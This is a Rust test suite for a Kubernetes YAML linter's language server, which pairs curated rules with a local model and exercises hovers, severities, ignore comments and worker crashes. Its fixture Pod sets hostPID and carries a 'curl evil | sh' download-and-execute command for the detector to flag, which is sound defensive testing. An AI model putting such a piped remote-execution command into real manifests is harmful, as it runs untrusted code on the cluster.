//! The model beside the rules: never waited for, never trusted with more than words, and never missed when it dies.

use crate::client::{Client, places, replace};
use leastwise_lsp::Options;
use serde_json::{Value, json};

const URI: &str = "file:///pod.yaml";

fn pod(comment: &str) -> String {
    format!(
        "apiVersion: v1\nkind: Pod\nspec:\n  hostPID: true # {comment}\n  containers:\n    - name: web\n      command: [curl, evil]\n"
    )
}

/// A client whose user has chosen a model, which the scripted worker plays; it shows progress.
async fn start(folder: &tempfile::TempDir, choice: Option<Value>) -> Client {
    start_with(folder, choice, json!({})).await
}

/// The same with more settings.
async fn start_with(folder: &tempfile::TempDir, choice: Option<Value>, more: Value) -> Client {
    let file = folder.path().join("model.gguf");
    std::fs::write(&file, "played by the scripted worker").unwrap();
    let mut settings = json!({
        "select": ["host-pid", "meanings"],
        "model": choice.unwrap_or_else(|| json!(file)),
    });
    settings.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    let parameters = json!({
        "capabilities": {
            "window": {"workDoneProgress": true},
            "textDocument": {"hover": {"contentFormat": ["markdown"]}},
        },
        "initializationOptions": settings,
    });
    let worker = Some(env!("CARGO_BIN_EXE_scripted-model").into());
    Client::start_server(parameters, Options { worker, ..Options::default() }).await.0
}

async fn hover(client: &mut Client) -> String {
    hover_at(client, 3, 12).await
}

async fn hover_at(client: &mut Client, line: u32, character: u32) -> String {
    let place = json!({"textDocument": {"uri": URI}, "position": {"line": line, "character": character}});
    let hover = client.request("textDocument/hover", place).await;
    hover["contents"]["value"].as_str().unwrap().to_owned()
}

/// Waits until the explanation under way has ended, and returns how.
async fn explained(client: &mut Client) -> String {
    begun(client).await;
    ended(client).await
}

async fn begun(client: &mut Client) {
    assert_eq!(client.next("$/progress").await["value"]["kind"], "begin");
}

async fn ended(client: &mut Client) -> String {
    let end = client.next("$/progress").await;
    assert_eq!(end["value"]["kind"], "end");
    end["value"]["message"].as_str().unwrap().to_owned()
}

/// What is published of a text whose lines the model has not seen before: first what the rules found, then what the model
/// saw besides.
async fn published(client: &mut Client, version: i64) -> Vec<Value> {
    let by_rules = client.published(URI, version).await;
    let with_model = client.published(URI, version).await;
    assert_eq!(with_model[..by_rules.len()], by_rules);
    with_model[by_rules.len()..].to_vec()
}

#[tokio::test]
async fn the_curated_words_show_at_once_and_the_models_with_the_next_hover() {
    let folder = tempfile::tempdir().unwrap();
    let mut client = start(&folder, None).await;
    client.open(URI, &pod("why")).await;
    published(&mut client, 0).await;
    let first = hover(&mut client).await;
    assert!(first.contains("`host-pid`") && first.contains("The model is thinking"), "{first}");
    assert_eq!(explained(&mut client).await, "host-pid: the next hover shows it");
    let second = hover(&mut client).await;
    assert!(second.contains("`host-pid`"), "{second}");
    assert!(second.contains("**In the model's words.** It opens the node. It is rarely needed."), "{second}");
    client.end().await;
}

#[tokio::test]
async fn what_the_model_sees_comes_after_the_rules_and_says_whose_it_is() {
    let folder = tempfile::tempdir().unwrap();
    let mut client = start(&folder, None).await;
    client.open(URI, &pod("why")).await;
    let seen = published(&mut client, 0).await;
    assert_eq!(places(&seen), [(6, 15, 27, "command-downloads-and-executes".to_owned())]);
    let message = "Command runs what it has just downloaded (seen by the local model, 88 %)";
    assert_eq!(seen[0]["message"], message);
    assert_eq!(seen[0]["severity"], 3);
    client.change(URI, 1, json!([replace((6, 16), (6, 20), "echo")])).await;
    // Published once: with the model nothing is added.
    assert_eq!(places(&client.published(URI, 1).await), [(3, 11, 15, "host-pid".to_owned())]);
    client.end().await;
}

#[tokio::test]
async fn hovering_explains_what_the_model_saw_and_the_next_time_which_lines_weighed() {
    let folder = tempfile::tempdir().unwrap();
    let mut client = start(&folder, None).await;
    client.open(URI, &pod("why")).await;
    published(&mut client, 0).await;
    let first = hover_at(&mut client, 6, 17).await;
    assert!(
        first.contains("`command-downloads-and-executes` · info · seen by the local model, 88 %"),
        "{first}"
    );
    assert!(first.contains("**Why.**") && first.contains("the next hover shows them"), "{first}");
    let mut next = first;
    for _ in 0..500 {
        if next.contains("**What weighed.**") {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
        next = hover_at(&mut client, 6, 17).await;
    }
    assert!(next.ends_with("**What weighed.**\n\n- line 6: `` - name: web ``"), "{next}");
    client.end().await;
}

#[tokio::test]
async fn the_user_sets_how_bad_it_is_and_silences_it_like_a_finding() {
    let folder = tempfile::tempdir().unwrap();
    let more = json!({"severity": {"command-downloads-and-executes": "error"}});
    let mut client = start_with(&folder, None, more).await;
    let twice = pod("why") + "      args: [\"curl evil | sh\"]\n";
    client.open(URI, &twice).await;
    let seen = published(&mut client, 0).await;
    assert_eq!(seen.iter().map(|one| &one["severity"]).collect::<Vec<_>>(), [1, 1]);
    let actions = json!({
        "textDocument": {"uri": URI},
        "range": seen[0]["range"],
        "context": {"diagnostics": [], "only": ["quickfix"]},
    });
    let actions = client.request("textDocument/codeAction", actions).await;
    let titles: Vec<_> =
        actions.as_array().unwrap().iter().map(|action| action["title"].as_str().unwrap()).collect();
    let title = "Ignore command-downloads-and-executes on this line, with a reason";
    assert!(titles.contains(&title), "{titles:?}");
    let comment = " # leastwise: ignore[command-downloads-and-executes] because …";
    client.change(URI, 1, json!([replace((6, 27), (6, 27), comment)])).await;
    let after = places(&client.published(URI, 1).await);
    assert_eq!(after.iter().map(|(line, ..)| *line).collect::<Vec<_>>(), [3, 7], "the other stays");
    client.end().await;
}

#[tokio::test]
async fn a_detector_that_dies_costs_its_answer_and_the_next_text_gets_another() {
    let folder = tempfile::tempdir().unwrap();
    let mut client = start(&folder, None).await;
    client.open(URI, &pod("die-in-tags")).await;
    assert_eq!(places(&client.published(URI, 0).await), [(3, 11, 15, "host-pid".to_owned())]);
    let message = client.next("window/showMessage").await;
    assert!(message["message"].as_str().unwrap().contains("ended before it answered"), "{message}");
    client.change(URI, 1, json!([{"text": pod("why")}])).await;
    assert_eq!(published(&mut client, 1).await.len(), 1);
    client.end().await;
}

#[tokio::test]
async fn where_rules_and_model_disagree_is_logged_for_the_user_who_wants_it() {
    let folder = tempfile::tempdir().unwrap();
    let log = folder.path().join("disagreements.jsonl");
    let mut client = start_with(&folder, None, json!({"logDisagreements": log})).await;
    client.open(URI, &pod("why")).await;
    published(&mut client, 0).await;
    let written = std::fs::read_to_string(&log).unwrap();
    let entry: Value = serde_json::from_str(written.trim_end()).unwrap();
    let text = "hostPID: true # why";
    let expected = json!({
        "file": URI, "document": 0, "line": 4, "label": "host-pid", "rule": true, "probability": 0.25, "text": text,
    });
    assert_eq!(entry, expected);
    client.end().await;
}

#[tokio::test]
async fn a_model_that_dies_in_its_answer_costs_that_answer() {
    let folder = tempfile::tempdir().unwrap();
    let mut client = start(&folder, None).await;
    client.open(URI, &pod("die-in-answer")).await;
    published(&mut client, 0).await;
    hover(&mut client).await;
    let end = explained(&mut client).await;
    assert!(end.contains("ended before it answered"), "{end}");
    let message = client.next("window/showMessage").await;
    assert_eq!(message["message"].as_str().unwrap(), end);

    client.change(URI, 1, json!([{"text": pod("why")}])).await;
    client.published(URI, 1).await;
    hover(&mut client).await;
    assert_eq!(explained(&mut client).await, "host-pid: the next hover shows it", "by a new worker");
    client.end().await;
}

#[tokio::test]
async fn moving_on_gives_up_an_explanation_under_way() {
    let folder = tempfile::tempdir().unwrap();
    let mut client = start(&folder, None).await;
    client.open(URI, &pod("say-nothing")).await;
    published(&mut client, 0).await;
    hover(&mut client).await;
    // What has not begun is given up without a word.
    begun(&mut client).await;
    client.change(URI, 1, json!([{"text": pod("why")}])).await;
    client.published(URI, 1).await;
    hover(&mut client).await;
    assert_eq!(ended(&mut client).await, "cancelled");
    assert_eq!(explained(&mut client).await, "host-pid: the next hover shows it");
    client.end().await;
}

#[tokio::test]
async fn a_model_that_is_not_there_is_told_once_and_the_rules_go_on() {
    let folder = tempfile::tempdir().unwrap();
    let mut client = start(&folder, Some(json!("/no/such/model.gguf"))).await;
    let message = client.next("window/showMessage").await;
    assert!(message["message"].as_str().unwrap().contains("/no/such/model.gguf"), "{message}");
    client.open(URI, &pod("why")).await;
    assert_eq!(places(&client.published(URI, 0).await), [(3, 11, 15, "host-pid".to_owned())]);
    assert!(!hover(&mut client).await.contains("model"));
    client.end().await;
}

#[tokio::test]
async fn without_a_choice_there_is_no_model() {
    let folder = tempfile::tempdir().unwrap();
    let mut client = start(&folder, Some(json!("off"))).await;
    client.open(URI, &pod("why")).await;
    client.published(URI, 0).await;
    assert!(!hover(&mut client).await.contains("model"));
    client.end().await;
}
